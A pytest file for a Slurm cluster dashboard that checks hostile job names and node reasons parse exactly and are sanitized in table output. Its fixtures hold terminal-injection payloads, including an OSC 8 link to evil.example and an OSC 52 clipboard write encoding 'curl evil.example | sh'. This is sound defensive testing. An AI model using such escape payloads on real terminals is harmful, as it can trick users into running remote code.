"""Hostile cluster strings on the real test cluster (more of tests/cluster/test_actions_cluster.py's
hostile reason): job names, comments and node reasons holding terminal escape sequences
(CSI, OSC 8 hyperlinks, OSC 52 clipboard writes, 8-bit C1 forms), zero-width, bidi and
combining characters, newlines, and 64 KB strings.

What is asserted:
- they come back byte for byte through cockpit's JSON parsers (squeue --json, sinfo --json,
  scontrol show node/job --json where Slurm has it) and through ``cockpit snapshot --format
  json``, and a node reason through the gate's audit log;
- ``cockpit snapshot --format table`` shows them as cockpit.text.sanitize makes them (cut to
  the column's width), and no escape, bell, C1, bidi or zero-width character reaches the
  output.

Slurm itself refuses a job name or comment over 1024 characters ("Pathname of a file,
directory or other parameter too long"), so 64 KB job strings are fed to the parsers inside
a real squeue document; a 64 KB node reason is stored by Slurm and read back. The held jobs
run nothing and are cancelled; node03 is drained only for the reads, then resumed.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from clusterlib import cancel, run, scontrol_show
from cockpit.backends.slurm_json import parse_scontrol_nodes, parse_sinfo, parse_squeue
from cockpit.core.audit import read_audit
from cockpit.text import sanitize

pytestmark = pytest.mark.cluster
ROOT = Path(__file__).resolve().parents[2]
NODE = "node03"
TAG = "cockpit-hostile"
NAMES = {
    "csi": "csi \x1b[31mred\x1b[0m \x1b[2J\x1b[H\x1b[?1049h",
    "osc8": "osc8 \x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\ and \x1b]8;;http://x\x07bel\x1b]8;;\x07",
    "osc52": "osc52 \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 \x1b]52;p;?\x1b\\",
    "c1": "c1 \x9b31mred \x9d0;title\x9c",
    "zero-width": "zw a\u200bb\u200cc\u200dd\ufeffe \u202eevil\u202c \u2066iso\u2069",
    "combining": "comb e\u0301 n\u0303 Z\u0336\u0335\u0334 a" + "\u0300" * 50,
    "newline": "nl [b]x[/b]\nline2\r\ttab",
    "1024": "long " + "x" * 1019,
}
# Never in a table: escape/bell/C1 controls, carriage return, bidi overrides and isolates,
# (newlines only between rows: a cell is found on one line, see _row),
# zero-width characters and the BOM.
FORBIDDEN = set("\x1b\x07\x9b\x9c\x9d\r\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
                "\u200b\u200c\u200d\u200e\u200f\ufeff")
BIG = 65536


def _version_ge(cluster, major: int, minor: int) -> bool:
    parts = cluster["COCKPIT_TEST_SLURM_VERSION"].split(".")
    return (int(parts[0]), int(parts[1])) >= (major, minor)


def _cockpit(cluster, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    cfg = tmp_path / "cockpit.toml"
    cfg.write_text(f'[general]\nbackend = "slurm-cli"\naudit_log = "{tmp_path / "audit.jsonl"}"\n')
    env = dict(os.environ, SLURM_CONF=cluster["SLURM_CONF"], XDG_CONFIG_HOME=str(tmp_path / "xdg"),
               COLUMNS="3000", LINES="100")  # wide enough that rich crops nothing
    env.pop("COCKPIT_CONFIG", None)
    return subprocess.run([sys.executable, "-m", "cockpit.cli", "--config", str(cfg), *args],
                          capture_output=True, text=True, env=env, timeout=180, cwd=ROOT)


def _row(table: str, first_cell: str) -> str:
    """The table line whose first cell is ``first_cell``."""
    rows = [ln for ln in table.splitlines() if ln.strip("│ ").split(" ", 1)[0] == first_cell]
    assert len(rows) == 1, (first_cell, rows)
    return rows[0]


def _no_forbidden(text: str) -> None:
    bad = sorted({f"U+{ord(c):04X}" for c in text if c in FORBIDDEN})
    assert not bad, bad


@pytest.fixture(scope="module")
def hostile_jobs(cluster):
    """{kind: (job id, name)}: held jobs named (and commented) with each hostile string."""
    jobs = {}
    try:
        for kind, text in NAMES.items():
            name = text if kind == "1024" else f"{TAG} {text}"
            out = run(["sbatch", "--parsable", "--hold", "-o", "/dev/null", "-J", name, f"--comment={name}",
                       "--wrap", "sleep 1"]).stdout.strip()
            jobs[kind] = (out.split(";")[0], name)
        yield jobs
    finally:
        for job_id, _ in jobs.values():
            cancel(job_id)


def test_job_names_round_trip_through_the_json_parsers(cluster, hostile_jobs, tmp_path):
    raw = run(["squeue", "--all", "--json"]).stdout
    by_id = {str(j.job_id): j for j in parse_squeue(raw)}
    records = {str(r["job_id"]): r for r in json.loads(raw)["jobs"]}
    for kind, (job_id, name) in hostile_jobs.items():
        assert by_id[job_id].name == name, kind
        # 22.05's squeue --json prints "" for every comment; where Slurm carries it, it is exact
        assert records[job_id].get("comment") in ("", name), kind
    if _version_ge(cluster, 23, 2):
        jobs = {str(j.job_id): j for j in parse_squeue(run(["scontrol", "show", "job", "--json"]).stdout,
                                                       source="scontrol show job --json")}
        for kind, (job_id, name) in hostile_jobs.items():
            assert jobs[job_id].name == name, kind
    proc = _cockpit(cluster, tmp_path, "snapshot", "--format", "json")
    assert proc.returncode in (0, 1), proc.stderr
    doc = {str(j["job_id"]): j for j in json.loads(proc.stdout)["jobs"]}
    for kind, (job_id, name) in hostile_jobs.items():
        assert doc[job_id]["name"] == name, kind


def test_job_names_are_sanitized_in_the_table(cluster, hostile_jobs, tmp_path):
    proc = _cockpit(cluster, tmp_path, "snapshot", "--format", "table")
    assert proc.returncode in (0, 1), proc.stderr
    _no_forbidden(proc.stdout)
    for kind, (job_id, name) in hostile_jobs.items():
        shown = sanitize(name)  # the NAME column: whole, since a pipe has no width to fit (commands/_columns.py)
        assert shown in _row(proc.stdout, job_id), (kind, shown)
    assert "[b]x[/b]" in _row(proc.stdout, hostile_jobs["newline"][0])  # markup stays text


def test_job_strings_over_1024_are_refused_by_slurm_and_64k_ones_parse_exactly(cluster, hostile_jobs):
    big = ("\x1b]52;c;" + "QUFB" * (BIG // 4) + "\x07")[:BIG]
    res = run(["sbatch", "--parsable", "--hold", "-o", "/dev/null", "-J", big, "--wrap", "sleep 1"], check=False)
    if res.returncode == 0:  # a later Slurm may take it: then it must come back whole
        job = res.stdout.strip().split(";")[0]
        try:
            (j,) = [x for x in parse_squeue(run(["squeue", "--json", "-j", job]).stdout) if str(x.job_id) == job]
            assert j.name == big
        finally:
            cancel(job)
    else:
        assert "too long" in res.stderr, res.stderr
    # The parsers on Slurm's own document, the hostile names swapped for 64 KB ones.
    doc = json.loads(run(["squeue", "--all", "--json"]).stdout)
    ours = {job_id for job_id, _ in hostile_jobs.values()}
    want = {}
    for rec in doc["jobs"]:
        if str(rec["job_id"]) in ours:
            rec["name"] = want[str(rec["job_id"])] = (rec["name"] * (BIG // len(rec["name"]) + 1))[:BIG]
    got = {str(j.job_id): j.name for j in parse_squeue(json.dumps(doc).encode())}
    assert {k: got[k] for k in want} == want


@pytest.fixture
def node3_restored(cluster):
    yield NODE
    if "DRAIN" in scontrol_show("node", NODE)["State"]:
        run(["scontrol", "update", f"NodeName={NODE}", "State=RESUME"], check=False)


REASONS = {
    "every kind": " ".join(NAMES[k] for k in ("csi", "osc8", "osc52", "c1", "zero-width", "combining", "newline")),
    "64 KB": ("\x1b]8;;https://evil.example/\x07" + "\x1b]52;c;" + "QUFB" * (BIG // 4))[:BIG - 1] + "\x07",
}


@pytest.mark.parametrize("kind", list(REASONS))
def test_node_reason_through_the_gate_round_trips_and_is_sanitized(cluster, tmp_path, node3_restored, kind):
    reason = REASONS[kind] + f" {uuid.uuid4().hex[:6]}" if kind != "64 KB" else REASONS[kind]
    drain = _cockpit(cluster, tmp_path, "node", "drain", NODE, "--reason", reason, "--yes", "--json")
    try:
        assert drain.returncode == 0, drain.stdout[-500:] + drain.stderr
        sinfo = {n.name: n for n in parse_sinfo(run(["sinfo", "--json"]).stdout)[0]}
        assert sinfo[NODE].reason == reason
        if _version_ge(cluster, 23, 2):
            nodes = {n.name: n for n in parse_scontrol_nodes(run(["scontrol", "show", "node", "--json"]).stdout)}
            assert nodes[NODE].reason == reason
        doc = json.loads(_cockpit(cluster, tmp_path, "snapshot", "--format", "json").stdout)
        assert {n["name"]: n for n in doc["nodes"]}[NODE]["reason"] == reason
        table = _cockpit(cluster, tmp_path, "snapshot", "--format", "table").stdout
    finally:
        resume = _cockpit(cluster, tmp_path, "node", "resume", NODE, "--yes")
    assert resume.returncode == 0, resume.stdout + resume.stderr
    _no_forbidden(table)
    assert sanitize(reason) in _row(table, NODE)  # the REASON column, whole in a pipe
    (rec, _) = read_audit(tmp_path / "audit.jsonl")
    assert rec["action"] == "drain" and rec["result"] == "done" and rec["argv"][-1] == "Reason=" + reason


def test_every_invisible_format_character_is_dropped():
    hidden = "a\u2060b\u061cc\u00add\U000e0041\U000e0042e\u2064f"
    assert sanitize(hidden) == "abcdef"
